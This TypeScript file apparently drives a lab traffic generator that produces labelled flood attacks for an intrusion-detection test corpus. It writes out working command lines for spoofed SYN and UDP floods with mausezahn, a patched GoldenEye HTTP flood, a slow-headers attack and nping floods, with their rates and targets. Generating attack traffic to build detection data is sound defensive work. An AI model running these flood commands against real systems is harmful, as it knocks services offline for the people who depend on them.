import { between, during, pick } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import { busyPort, secondsLeft, volume } from './floods-direct.ts'
import { deviceOf, routerOf, runTool, script } from './run-tool.ts'
import { attackOf } from './strike.ts'
import type { Strike } from './strike.ts'
import { publishedServer, serverFor, siteAddresses } from './targets.ts'

const TEST = { category: 'flood', corpora: ['test'] } as const

interface Burst {
  readonly victim: string
  readonly sources: readonly string[]
  /** mausezahn's kind of packet and its settings. */
  readonly kind: readonly [type: string, settings: string]
}

/** mausezahn, one process for each source, each at its part of the rate. */
async function mausezahn(scene: AttackScene, { victim, sources, kind: [type, settings] }: Burst): Promise<void> {
  const { rate, count } = volume(scene, secondsLeft(scene) - 3, [300, 2_200])
  const router = await routerOf(scene)
  const each = Math.floor(count / sources.length)
  const gapUs = Math.ceil(1_000_000 * sources.length / rate)
  await Promise.all(sources.map((source) => runTool(scene, {
    command: ['mausezahn', deviceOf(scene.actor), '-q', '-c', String(each), '-d', String(gapUs), '-b', router, '-A', source, '-B', victim,
      '-t', type, settings, '-p', String(between(scene.random, 10, 400))],
    packetsMin: Math.floor(each / 8),
  })))
}

async function spoofed(scene: AttackScene): Promise<void> {
  const [victim, port] = busyPort(scene)
  const sources = Array.from({ length: between(scene.random, 5, 12) }, () => scene.stranger())
  const tool = `mausezahn syn, ${sources.length} spoofed`
  await during(scene, { role: 'victim', address: victim, peers: sources, category: 'flood', tool }, () => (
    mausezahn(scene, { victim, sources, kind: ['tcp', `sp=1024-65000,dp=${port},flags=syn`] })))
}

async function udp(scene: AttackScene): Promise<void> {
  const victim = publishedServer(scene.random, pick(scene.random, ['jump', 'www', 'mail']))
  const sources = [scene.actor.address]
  const ports = pick(scene.random, ['dp=1-65000', `dp=${between(scene.random, 1, 9_999)}`])
  const tool = `mausezahn udp ${ports}`
  await during(scene, { role: 'entity', address: scene.actor.address, peers: [victim], category: 'flood', tool }, () => (
    mausezahn(scene, { victim, sources, kind: ['udp', `sp=1024-65000,${ports}`] })))
}

function goldeneye(scene: AttackScene): Strike {
  const { random } = scene
  const server = serverFor(scene, 'www')
  const flags = ['-w', String(between(random, 2, 4)), '-s', String(between(random, 10, 25)), '-m', pick(random, ['get', 'post', 'random'])]
  // Debian's version divides to a float where Python since 3.10 wants a whole number, so a mended copy runs. Only a signal stops it.
  const mend = 'sed "s#len(acceptEncoding)/2#len(acceptEncoding)//2#" /usr/bin/goldeneye >goldeneye'
  const run = 'exec timeout -s INT -k 3 "$0" /usr/bin/python3 goldeneye "$@"'
  const command = ['bash', '-c', `${mend}; ${run}`, String(secondsLeft(scene) - 4), `http://${server}/`, ...flags]
  return { command, targets: [server], packetsMin: 500, exitCodes: [0, 124, 137], note: `goldeneye ${flags.join(' ')}` }
}

function slowHeaders(scene: AttackScene): Strike {
  const { random } = scene
  const server = serverFor(scene, 'www')
  const pace = [between(random, 100, 400), between(random, 1, 3), between(random, 4, 9), secondsLeft(scene) - 6].map(String)
  return {
    command: ['/usr/bin/python3', script('slow-headers.py'), server, ...pace], targets: [server], packetsMin: 300, says: /^held/m,
    note: `python slow headers, ${pace[0]} connections, a line every ${pace[1]}-${pace[2]} s`,
  }
}

function nping(scene: AttackScene, target: string): Strike {
  const { random } = scene
  const { rate, count } = volume(scene, secondsLeft(scene) - 3, [200, 1_000])
  const kind = pick(random, [['--icmp'], ['--udp', '-p', String(between(random, 1, 9_999))], ['--tcp', '--flags', 'syn', '-p', '443']])
  const words = [...kind, '--data-length', String(between(random, 8, 600)), '--rate', String(rate), '-c', String(count)]
  return {
    command: ['nping', '-q', '-N', '--send-ip', ...words, target], targets: [target],
    packetsMin: Math.floor(count / 8), says: /Raw packets sent/,
    note: `nping ${words.join(' ')}`,
  }
}

/** Floods by tools that no training capture shows. */
export const KEPT_FLOODS: readonly Attack[] = [
  { ...TEST, name: 'mausezahn-syn-spoofed', tool: 'mausezahn', place: 'outside', isAlone: true, seconds: 40, play: spoofed },
  { ...TEST, name: 'mausezahn-udp', tool: 'mausezahn', place: 'outside', isAlone: true, seconds: 35, play: udp },
  attackOf({ ...TEST, name: 'goldeneye-outside', tool: 'goldeneye', place: 'outside', seconds: 35, plan: goldeneye }),
  attackOf({ ...TEST, name: 'python-slow-headers', tool: 'python', place: 'outside', seconds: 60, plan: slowHeaders }),
  attackOf({
    ...TEST, name: 'nping-outwards', tool: 'nping', place: 'inside', seconds: 30,
    plan: (scene) => nping(scene, siteAddresses(scene.random, 1)[0] ?? ''),
  }),
  attackOf({
    ...TEST, name: 'nping-outside', tool: 'nping', place: 'outside', seconds: 30,
    plan: (scene) => nping(scene, busyPort(scene)[0]),
  }),
]
